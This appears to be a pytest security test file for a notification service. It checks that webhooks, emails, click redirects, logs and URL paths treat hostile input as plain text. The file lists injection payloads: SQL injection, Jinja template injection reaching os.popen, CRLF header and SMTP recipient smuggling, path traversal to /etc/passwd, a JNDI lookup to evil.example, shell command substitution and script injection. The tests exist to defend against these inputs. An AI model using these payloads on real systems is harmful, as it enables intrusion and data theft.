"""Texts that are meant to be more than texts: SQL, Jinja, headers, paths, log lines; through every door, to every end."""

from __future__ import annotations

import json
import socket
from email import message_from_bytes
from email.policy import default
from urllib.parse import quote, unquote

import pytest

from tests.delivery.test_email import Mailbox, server
from tests.proof.policies import SECRET, TOKEN
from tests.proof.reporting import report
from tests.proof.world import NO_AUTH, World, now_text, until
from tests.server.test_clicks import BROWSER

RULES = """\
user: {nick: {type: text, optional: true}, email: {type: text, optional: true}}
channels:
  hook: {type: webhook, url: "${HOOK}/hook", secret: "${PROOF_SECRET}"}
  mail:
    type: email
    host: 127.0.0.1
    port: PORT
    security: none
    from: Proof <proof@example.com>
    to: user.email
    unsubscribe: https://example.com/unsubscribe?user={user}
events:
  posted: {weight: 0.9, threshold: 0.1, message: posted, channel: hook, fields: {a: {type: text}}}
  mailed: {weight: 0.9, threshold: 0.1, message: posted, channel: mail, fields: {a: {type: text}}}
"""

TEMPLATES = """\
templates:
  posted:
    variants:
      only:
        title: "{{ a }}"
        text: "{{ a }}|{{ user.id }}|{{ user.nick | default('none') }}"
        buttons:
          - {label: "{{ a }}", link: "https://shop.example/{{ a }}"}
          - {label: "whole", link: "https://shop.example/?q={{ a | urlencode }}"}
    samples:
      - {a: something}
"""

SQL = (
    "ada'; DROP TABLE users; --",
    "' OR '1'='1",
    '" OR ""="',
    "%' AND 1=0 UNION SELECT hashed FROM api_keys --",
    "a\\' OR 1=1",
    "%",
    "_",
)
JINJA = (
    "{{ 7777 * 7777 }}",
    "{% for x in range(9) %}x{% endfor %}",
    "{{ ().__class__.__base__.__subclasses__() }}",
    "{{ user|attr('__class__') }}",
    "{{ self._TemplateReference__context }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{# a comment #}",
    "${7777*7777} #{7777*7777} <%= 7777*7777 %>",
    "{0.__class__} %(user)s %s",
)
HEADERS = (
    "a\r\nset-cookie: owned=1",
    "a\nbcc: everybody@example.com",
    "a\rx: y",
    "a\u2028b\u2029c\x85d",
    "a\x00b",
    "=?utf-8?q?bcc:_x?=",
    "ana@example.com, eve@example.com",
    "ana@example.com>\r\nRCPT TO:<eve@example.com",
    ".\r\nQUIT",
)
PATHS = ("../../etc/passwd", "/etc/passwd", "..\\..\\x", "%2e%2e/", "a/../b", "file:///etc/passwd", "//evil.example/")
OTHERS = (
    "<script>alert(1)</script>",
    "${jndi:ldap://evil.example/a}",
    "$(id)`id`",
    "\x1b[31mred\x1b]0;title\x07",
    '", "outcome": "sent", "x": "',
    "\u202eevil\u202c",
    "javascript:alert(1)",
    '{"timestamp":"x","level":"error","event":"forged"}\n{"level":"error"}',
)
NASTY = (*SQL, *JINJA, *HEADERS, *PATHS, *OTHERS)
FORBIDDEN = ("60481729", "uid=0", "root:x:", "xxxxxxxxx")
"""What would come out if one of them were obeyed."""


@pytest.fixture
def mailbox():
    return Mailbox()


@pytest.fixture
def place(make_world, receiver, mailbox):
    with server(mailbox, enable_SMTPUTF8=True) as mail:
        world: World = make_world(
            rules=RULES.replace("PORT", str(mail.port)),
            templates=TEMPLATES,
            options=(*NO_AUTH, "--public-url", "http://127.0.0.1:1"),
            environment={"HOOK": receiver.urls["hook"], "PROOF_SECRET": SECRET, "PROOF_TOKEN": TOKEN},
        )
        world.start("--log-level", "debug")
        yield world


def raw(world: World, path: str, **headers: str) -> bytes:
    """An answer, byte for byte."""
    named = "".join(f"{name}: {value}\r\n" for name, value in headers.items())
    with socket.create_connection(("127.0.0.1", world.port), timeout=20) as connection:
        connection.sendall(f"GET {path} HTTP/1.1\r\nhost: 127.0.0.1\r\n{named}connection: close\r\n\r\n".encode())
        heard = b""
        while piece := connection.recv(65_536):
            heard += piece
    return heard


def test_whatever_is_in_a_text_it_stays_a_text(place: World, mailbox: Mailbox):
    world, receiver = place, place.receiver
    sent = {}
    plain = {"type": "posted", "user": "innocent", "time": now_text(), "id": "innocent", "data": {"a": "nothing"}}
    assert world.post(plain)[0] == 202
    for n, text in enumerate(NASTY):
        person = f"p{n}"
        attributes = {
            "id": f"at{n}",
            "type": "user.updated",
            "user": person,
            "time": now_text(),
            "data": {"nick": text},
        }
        assert world.post(attributes)[0] in {202, 422}
        one = {"id": f"e{n}", "type": "posted", "user": person, "time": now_text(), "data": {"a": text}}
        status, said = world.post(one, wait=True)
        assert status == 202, (text, said)
        [decision] = json.loads(said)["events"][0]["decisions"]
        if decision["outcome"] == "sent":
            sent[decision["id"]] = (text, person, decision["message"])
        named = {"id": f"{text}", "type": "posted", "user": text, "time": now_text(), "data": {"a": "x"}}
        status, said = world.post(named)
        assert status in {202, 422}, (text, said)
        if status == 202:
            found = json.loads(world.get(f"/v1/decisions?user={quote(text, safe='')}")[1])["decisions"]
            assert [(d["user"], d["event_id"]) for d in found] == [(text, text)], text
            status, said = world.get(f"/v1/users/{quote(text, safe='')}")
            assert (status, json.loads(said)["state"]["user"]) == (200, text), (text, said)
        for query in ("user", "event", "event_type", "outcome", "reason", "since", "until", "before", "limit", "none"):
            status, said = world.get(f"/v1/decisions?{query}={quote(text, safe='')}")
            assert status in {200, 400, 422}, (query, text, said)
            if status == 200:
                assert b"innocent" not in said, (query, text)
    assert len(sent) > len(NASTY) - 3

    until(world.quiet, "messages are still on their way", 120, world.log)
    heads = {name for request in receiver.peers["hook"].requests for name in request.headers}
    assert heads <= {
        *("host content-type content-length webhook-id webhook-timestamp webhook-signature".split()),
        *("user-agent accept accept-encoding connection idempotency-key traceparent tracestate".split()),
    }
    posted = {request.headers["webhook-id"]: request.json() for request in receiver.peers["hook"].requests}
    for key, (text, person, message) in sent.items():
        data = posted[key]["data"]
        nick = data["text"].removeprefix(f"{text}|{person}|")
        assert nick in {text, "none"}, (text, data["text"])
        assert message["text"] == data["text"]
        for button in data["buttons"]:
            if button.get("link"):
                follow(world, button["link"], text)
    assert json.loads(world.get("/v1/decisions?user=innocent")[1])["decisions"], "somebody lost their decisions"
    the_log_is_one_object_a_line(world)
    said = world.whole_log() + repr(posted)
    assert not [word for word in FORBIDDEN if word in said]
    world.close()
    report("injections by name, in texts, attributes, ids and queries", tried=len(NASTY), sent=len(sent))


def follow(world: World, link: str, text: str) -> None:
    """A click leads where the template says, with one Location, and no other header of anybody's making."""
    path = link.removeprefix("http://127.0.0.1:1")
    assert path.startswith("/c/"), link
    head = raw(world, path, **BROWSER).partition(b"\r\n\r\n")[0].decode("latin-1")
    lines = head.split("\r\n")
    assert lines[0].startswith("HTTP/1.1 302"), head
    assert not [line for line in lines if line.lower().startswith(("set-cookie", "bcc", "x:"))]
    assert "\n" not in head.replace("\r\n", "")
    [location] = [line for line in lines if line.lower().startswith("location: ")]
    assert unquote(location).startswith("location: https://shop.example/"), (text, location)


def the_log_is_one_object_a_line(world: World) -> None:
    lines = world.whole_log().split("\n")
    assert "\x1b" not in world.whole_log()
    for line in filter(None, lines):
        if line.startswith("botopt serves"):
            continue
        assert isinstance(json.loads(line), dict), line
        assert json.loads(line)["event"] != "forged"


def test_no_text_makes_a_header_or_a_recipient_of_a_mail(place: World, mailbox: Mailbox):
    world = place
    for n, text in enumerate(NASTY):
        person, now = f"m{n}", now_text()
        address = text if text in HEADERS else "ana@example.com"
        data = {"email": address, "nick": text}
        world.post({"id": f"ma{n}", "type": "user.updated", "user": person, "time": now, "data": data})
        status, said = world.post({"id": f"m{n}", "type": "mailed", "user": person, "time": now, "data": {"a": text}})
        assert status == 202, said
    until(world.quiet, "messages are still on their way", 120, world.log)
    assert len(mailbox.taken) >= len(NASTY) - len(HEADERS)
    names = set()
    for envelope in mailbox.taken:
        assert envelope.rcpt_tos == ["ana@example.com"], envelope.rcpt_tos
        assert envelope.mail_from == "proof@example.com"
        mail = message_from_bytes(envelope.original_content or b"", policy=default)
        names |= {name.lower() for name in mail}
        assert not mail.defects
        assert "\n" not in str(mail["subject"])
        [address] = mail["to"].addresses
        assert str(address) == "ana@example.com"
    assert names <= {
        *("subject from to date message-id mime-version content-type auto-submitted list-unsubscribe".split()),
        *("content-transfer-encoding x-botopt-id".split()),
    }, names
    world.close()
    report("injections by name, into mails", tried=len(NASTY), arrived=len(mailbox.taken))


def test_no_path_leads_out_of_the_addresses_there_are(place: World):
    world = place
    known = json.loads(world.get("/openapi.json")[1])["paths"]
    assert known
    for text in (*PATHS, "..", ".", "%00", "%ff", "%c0%ae%c0%ae/", "hook/../mail", "hook%2f..%2f..", "hook\x7f"):
        for way in (text, quote(text, safe=""), quote(quote(text, safe=""), safe="")):
            for base in ("/v1/users/", "/v1/channels/", "/v1/channels/hook/", "/c/", "/", "/v1/", "/openapi.json/"):
                for end in ("", "/callback"):
                    heard = raw(world, (base + way + end).replace(" ", "%20"))
                    status = int(heard.split(b" ", 2)[1]) if heard else 400
                    assert status in {200, 400, 401, 403, 404, 405, 422}, (base + way + end, heard[:300])
                    assert b"root:" not in heard
                    if status == 200:  # somebody's name may look like a path: nothing is known of them
                        assert b"application/json" in heard
    the_log_is_one_object_a_line(world)
    assert "internal_error" not in world.whole_log()
    world.close()
